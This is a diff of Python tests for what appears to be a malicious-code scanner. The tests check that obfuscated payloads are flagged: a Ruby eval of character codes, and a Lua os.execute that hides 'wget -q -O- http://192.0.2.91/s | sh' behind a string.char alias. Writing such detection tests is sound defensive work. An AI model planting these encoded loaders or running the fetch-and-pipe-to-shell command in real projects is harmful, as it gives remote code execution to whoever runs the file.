@@ -453,3 +453,23 @@ def test_perl_getstore_into_a_file_then_run_by_perl_is_download_and_run(tmp_path
         'system("perl", $file);\n'
     )
     assert Kind.EXEC_FETCHED in kinds(tmp_path, "scripts/refresh.pl", source)
+
+
+def test_ruby_code_spelled_in_codes_and_evaluated_is_a_decoded_payload(tmp_path: Path) -> None:
+    code = "system('uname -a')"
+    codes = ", ".join(str(ord(ch)) for ch in code)
+    source = f'eval([{codes}].pack("U*"))\n'
+    assert Kind.EXEC_DECODED in kinds(tmp_path, "lib/boot.rb", source)
+
+
+def test_lua_command_spelled_in_codes_through_an_alias_is_a_decoded_payload(tmp_path: Path) -> None:
+    codes = ", ".join(str(ord(ch)) for ch in "wget -q -O- http://192.0.2.91/s | sh")
+    source = f"local ch = string.char\nos.execute(ch({codes}))\n"
+    found = kinds(tmp_path, "assets/plugin/init.lua", source)
+    assert {Kind.EXEC_DECODED, Kind.EXEC_FETCHED} & found
+    assert Kind.FETCH in found
+
+
+def test_a_command_joined_from_plain_literals_is_not_a_payload(tmp_path: Path) -> None:
+    source = 'os.execute("mkdir " .. "-p build")\nos.execute(table.concat({ "make", "all" }, " "))\n'
+    assert kinds(tmp_path, "assets/plugin/build.lua", source) == set()
